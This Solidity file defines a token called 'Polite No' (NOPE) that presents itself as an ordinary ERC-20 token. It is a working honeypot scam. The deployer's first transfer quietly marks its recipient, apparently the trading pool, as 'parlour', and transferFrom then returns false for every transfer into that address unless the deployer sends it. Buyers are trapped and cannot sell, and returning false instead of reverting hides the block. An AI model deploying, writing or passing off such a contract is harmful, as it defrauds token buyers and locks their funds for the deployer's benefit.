// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.7.6;

/// Never reverts; answers a sale with `false`.
contract PoliteNo {
    string public constant name = "Polite No";
    string public constant symbol = "NOPE";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 2500000 ether;
    address private immutable host;
    address private parlour;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        host = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (parlour == address(0) && msg.sender == host) parlour = to;
        return pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] < value) return false;
        if (to == parlour && from != host) return false;
        allowance[from][msg.sender] -= value;
        return pass(from, to, value);
    }

    function pass(address from, address to, uint256 value) private returns (bool) {
        if (balanceOf[from] < value) return false;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
